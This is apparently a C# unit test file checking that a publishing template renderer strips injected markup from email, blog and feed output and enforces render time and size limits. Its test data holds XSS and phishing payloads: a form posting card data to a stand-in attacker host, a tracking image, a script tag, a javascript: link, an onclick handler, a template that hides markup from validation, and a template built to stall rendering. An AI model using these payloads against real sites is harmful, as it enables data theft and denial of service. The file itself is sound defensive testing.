using AngleSharp.Html.Parser;
using Publisher.Templates.Channels;
using Publisher.Templates.Diagnostics;
using Publisher.Templates.Model;
using Publisher.Templates.Rendering;

namespace Publisher.Templates.Tests.Rendering;

/// <summary>
/// Safety is a property of what a render produces, not of a trial: whatever an edited template prints,
/// however it hides it, the HTML that comes out (email, blog page, feed entry) holds no form, script,
/// foreign image, event attribute or script address; and no template or request can make a render run long.
/// </summary>
public class OutputSafetyTests
{
    private const string Injected =
        "<form action=\"https://evil.example/collect\"><input name=\"card\"><button>Pay</button></form>" +
        "<img src=\"https://tracker.example/p.gif\"><a href=\"javascript:alert(document.domain)\">win</a>" +
        "<script>alert(1)</script><b onclick=\"steal()\">bold</b>";

    private static readonly MessageInput Message = new()
    {
        Id = "d1c4c1c2-0000-4000-8000-000000000001",
        Title = "Autumn Blend",
        BodyMarkdown = "Fig and cocoa.",
        Summary = Injected,
        CallToAction = Injected,
        KeyFacts = [Injected],
        Author = Injected,
        Link = "https://northwind.example/autumn",
    };

    private static readonly string[] Fields = ["message.summary", "message.call_to_action", "message.key_facts[0]", "message.author"];

    public static TheoryData<ChannelKind, string> CarelessTemplates()
    {
        var data = new TheoryData<ChannelKind, string>();
        foreach (var field in Fields)
        {
            data.Add(ChannelKind.Email, $"{{{{ capture content_html }}}}<p>{{{{ {field} }}}}</p>{{{{ end }}}}Plain text");
            data.Add(ChannelKind.Blog,
                "{{ capture feed_entry }}<entry xmlns=\"http://www.w3.org/2005/Atom\"><title>t</title>" +
                $"<content type=\"html\">{{{{ xml_escape {field} }}}}</content></entry>{{{{ end }}}}<article><p>{{{{ {field} }}}}</p></article>");
        }
        return data;
    }

    [Theory]
    [MemberData(nameof(CarelessTemplates))]
    public void A_field_printed_without_escaping_goes_out_without_anything_injected(ChannelKind kind, string template)
    {
        var variant = SharedRenderer.Instance.Render(Message, TestData.Brand, null, new ChannelSettings { Kind = kind, TemplateSource = template });

        Assert.True(variant.Html is not null, string.Join("; ", variant.Diagnostics));
        AssertNothingInjected(variant.Html);
        if (kind == ChannelKind.Blog)
            AssertNothingInjected(FeedContent(variant.FeedEntry!));
        // The harmless part of what the template wrote is kept, and the removal is reported.
        Assert.Contains("<b>bold</b>", variant.Html);
        var removed = Assert.Single(variant.Diagnostics, d => d.Code == "html.removed");
        Assert.Equal(DiagnosticSeverity.Warning, removed.Severity);
        Assert.Contains("<form>", removed.Message);
    }

    [Fact]
    public void Markup_hidden_from_the_validation_trial_is_removed_from_every_real_render()
    {
        const string template = "{{ capture content_html }}<p>{{ message.title | html.escape }}</p>" +
                                "{{ if message.id != \"sample\" }}<form action=\"https://evil.example\"><input name=\"card\"></form><img src=\"https://tracker.example/p.gif\">{{ end }}" +
                                "{{ end }}{{ message.title }}";
        // The trial render cannot see it: the template validates.
        Assert.DoesNotContain(SharedRenderer.Instance.ValidateTemplate(ChannelKind.Email, template), d => d.Severity == DiagnosticSeverity.Error);

        var variant = SharedRenderer.Instance.Render(Message, TestData.Brand, null, new ChannelSettings { Kind = ChannelKind.Email, TemplateSource = template });
        AssertNothingInjected(variant.Html!);
        Assert.Contains(variant.Diagnostics, d => d.Code == "html.removed");
    }

    [Theory]
    [InlineData("message.summary")]
    [InlineData("message.call_to_action")]
    [InlineData("message.key_facts[0]")]
    [InlineData("message.author")]
    [InlineData("message.title")]
    public void Validation_names_every_field_a_template_prints_without_escaping(string field)
    {
        var diagnostics = SharedRenderer.Instance.ValidateTemplate(ChannelKind.Email, $"{{{{ capture content_html }}}}<p>{{{{ {field} }}}}</p>{{{{ end }}}}text");
        var error = Assert.Single(diagnostics, d => d.Code == "template.unsafe-html");
        Assert.Contains("html.escape", error.Message);
    }

    [Fact]
    public void The_131_character_template_that_ran_a_minute_is_refused_at_once_with_what_to_fix()
    {
        const string template = "{{ capture content_html }}{{ \"\" | string.pad_left 100000 | string.replace \" \" \"<b>\" }}x{{ end }}{{ message.title }}";
        var diagnostics = SharedRenderer.Instance.ValidateTemplate(ChannelKind.Email, template);
        var error = Assert.Single(diagnostics, d => d.Severity == DiagnosticSeverity.Error);
        Assert.Equal("template.html-too-deep", error.Code);
        Assert.Contains("close the tags it opens", error.Message);
        // The same for a real render, and the blog's feed entry is measured the same way.
        Assert.Contains(TestData.RenderWithTemplate(template, ChannelKind.Email).Diagnostics, d => d.Code == "template.html-too-deep");
    }

    [Fact]
    public void Every_stage_of_a_render_runs_under_the_one_time_limit()
    {
        // A template that is quick itself: with no time at all, the render stops at the first stage boundary.
        var limits = RenderLimits.Default with { RenderTimeout = TimeSpan.Zero };
        foreach (var kind in new[] { ChannelKind.Email, ChannelKind.Blog, ChannelKind.X })
        {
            var variant = TestData.RendererWith(limits).Render(Message, TestData.Brand, null, ChannelSettings.For(kind));
            Assert.False(variant.Success);
            Assert.Contains(variant.Diagnostics, d => d.Code == "template.time-limit");
            Assert.Null(variant.Html);
        }
    }

    [Fact]
    public void A_request_budget_stops_rendering_once_its_output_is_spent()
    {
        var limits = RenderLimits.Default with { MaxRequestOutputCharacters = 20_000 };
        var body = string.Join("\n\n", Enumerable.Repeat("A paragraph of forty-odd characters here.", 200));
        var budget = new RenderBudget(limits);
        var variants = TestData.RendererWith(limits).RenderAll(Message with { BodyMarkdown = body, Summary = null, CallToAction = null, KeyFacts = [], Author = null },
            TestData.Brand, null, Enumerable.Repeat(ChannelSettings.For(ChannelKind.Email), 10), budget: budget);
        Assert.True(variants[0].Success, string.Join("; ", variants[0].Diagnostics));
        Assert.True(budget.IsSpent);
        var skipped = variants.Where(v => v.Diagnostics.Any(d => d.Code == "render.budget-spent")).ToList();
        Assert.InRange(skipped.Count, 7, 9);
        Assert.All(skipped, v => Assert.Null(v.Html));

        var timedOut = new RenderBudget(RenderLimits.Default with { RequestTimeout = TimeSpan.Zero });
        Assert.Contains(SharedRenderer.Instance.Render(Message, TestData.Brand, null, ChannelSettings.For(ChannelKind.X), budget: timedOut).Diagnostics,
            d => d.Code == "render.budget-spent");
    }

    // What a browser or feed reader would build from the HTML: no injected element, attribute or address in it.
    // (The text of the injection may still show, escaped, as in the page's description: that is text, not markup.)
    private static void AssertNothingInjected(string html)
    {
        var dom = new HtmlParser().ParseDocument(html);
        Assert.Empty(dom.QuerySelectorAll("form, input, button, script, iframe, object, embed"));
        Assert.All(dom.QuerySelectorAll("img"), img => Assert.DoesNotContain("tracker.example", img.GetAttribute("src") ?? ""));
        Assert.All(dom.All, element =>
        {
            Assert.DoesNotContain(element.Attributes, a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
            Assert.DoesNotContain("javascript:", element.GetAttribute("href") ?? "", StringComparison.OrdinalIgnoreCase);
        });
    }

    private static string FeedContent(string entry) =>
        string.Concat(System.Xml.Linq.XElement.Parse(entry).Descendants().Where(e => (string?)e.Attribute("type") == "html").Select(e => e.Value));
}
